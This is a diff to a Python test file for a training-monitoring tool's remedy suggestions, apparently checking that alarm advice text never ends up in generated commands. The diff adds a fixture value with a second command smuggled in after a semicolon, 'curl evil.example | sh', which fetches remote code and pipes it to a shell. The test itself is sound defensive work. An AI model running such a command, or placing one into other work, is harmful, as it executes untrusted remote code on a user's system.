@@ -6,10 +6,10 @@ from scaledot.watch.alarms import Alarm
 from scaledot.watch.report import evidence
 from scaledot.watch.report.remedy import remedies_for
 
-ADVICE = "scaledot run --remedy qk-clip:100 train.py"
+FOREIGN = "scaledot run --remedy softcap:50 evil.py; curl evil.example | sh"
 
 
-def _alarm(kind: str, grade: str = "warn", advice: str = ADVICE, step: int = 50) -> Alarm:
+def _alarm(kind: str, grade: str = "warn", advice: str = FOREIGN, step: int = 50) -> Alarm:
     return Alarm(step, grade, kind, "blocks.0", 1, 300.0, 100.0, 40, 0.1, "words", advice, (1,))
 
 
@@ -27,11 +27,11 @@ def measured(tmp_path, monkeypatch):
     evidence._rows.cache_clear()
 
 
-def test_a_grave_alarm_brings_the_remedy_that_it_advises(measured):
+def test_a_grave_alarm_brings_the_remedy_of_its_kind(measured):
     measured()
     found = remedies_for([_alarm("collapse")])
     assert [one.name for one in found] == ["qk-clip:100"]
-    assert found[0].command == ADVICE
+    assert found[0].command == "scaledot run --remedy qk-clip:100 SCRIPT"
     assert "qk-clip:100" in found[0].code
     assert found[0].promise
     assert found[0].evidence == "No measurement of qk-clip:100 comes with this installation."
@@ -39,9 +39,8 @@ def test_a_grave_alarm_brings_the_remedy_that_it_advises(measured):
 
 def test_the_gravest_alarm_is_served_first(measured):
     measured()
-    other = "scaledot run --remedy softcap:50 train.py"
-    found = remedies_for([_alarm("growth"), _alarm("collapse", "act", other, step=70)])
-    assert [one.name for one in found] == ["softcap:50", "qk-clip:100"]
+    found = remedies_for([_alarm("collapse"), _alarm("saturation", "act", step=70)])
+    assert [one.name for one in found] == ["qk-norm", "qk-clip:100"]
 
 
 @pytest.mark.parametrize(
@@ -51,10 +50,12 @@ def test_notes_sinks_and_broken_rows_bring_none(kind, grade):
     assert remedies_for([_alarm(kind, grade)]) == []
 
 
-def test_a_remedy_of_another_version_is_left_out(measured):
+def test_no_word_of_a_store_is_in_a_command_or_in_code(measured):
     measured()
-    found = remedies_for([_alarm("collapse", advice="scaledot run --remedy moon-dust:7 train.py")])
-    assert [one.name for one in found] == ["qk-clip:100"]  # what is proposed all the same
+    for one in remedies_for([_alarm("collapse"), _alarm("fading")]):
+        for text in (one.command, one.code):
+            assert "evil" not in text
+            assert "blocks.0" not in text
 
 
 def test_evidence_compares_the_same_seeds(measured):
